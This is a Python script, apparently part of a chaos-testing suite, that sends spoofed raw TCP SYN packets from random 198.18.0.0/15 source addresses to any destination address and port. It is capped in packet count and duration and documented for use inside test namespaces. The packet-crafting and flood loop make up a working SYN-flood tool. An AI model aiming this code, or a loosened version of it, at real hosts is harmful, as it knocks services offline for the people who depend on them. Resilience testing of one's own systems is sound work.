#!/usr/bin/env python3
"""Spoofed SYN flood for the chaos suite: raw IPv4 TCP SYNs to VIP:PORT whose source addresses
are random in 198.18.0.0/15 (the benchmarking range: no real host answers), random source
ports and sequence numbers. Run only inside a test's client namespace. Bounded: at most --count
packets (<= 2,000,000) and --seconds (<= 120), optionally paced to --pps.
Prints JSON: sent, seconds, pps."""
import argparse
import json
import random
import socket
import struct
import time


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack(f"!{len(b) // 2}H", b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--dst", required=True)
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--count", type=int, default=100000)
    ap.add_argument("--seconds", type=float, default=10)
    ap.add_argument("--pps", type=int, default=0, help="pace to this rate (0: as fast as possible)")
    a = ap.parse_args()
    count, seconds = min(a.count, 2000000), min(a.seconds, 120)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    da = socket.inet_aton(a.dst)
    rnd = random.Random(11)
    opts = struct.pack("!BBH", 2, 4, 1460)
    t0 = time.monotonic()
    sent = 0
    while sent < count:
        el = time.monotonic() - t0
        if el > seconds:
            break
        if a.pps and sent > a.pps * el:
            time.sleep(0.001)
            continue
        src = (198 << 24) | (18 << 16) | rnd.getrandbits(17)
        sa = struct.pack("!I", src)
        tcp = struct.pack("!HHIIBBHHH", rnd.randrange(1024, 65535), a.port, rnd.getrandbits(32), 0,
                          (6 << 4), 0x02, 64240, 0, 0) + opts
        c = csum(sa + da + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)
        tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), rnd.getrandbits(16), 0, 64, 6, 0, sa, da)
        ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
        try:
            s.sendto(ip + tcp, (a.dst, 0))
            sent += 1
        except OSError:  # a full socket buffer: back off briefly, still bounded by time
            time.sleep(0.001)
    el = time.monotonic() - t0
    print(json.dumps({"sent": sent, "seconds": round(el, 2), "pps": round(sent / el) if el else 0}))


if __name__ == "__main__":
    main()
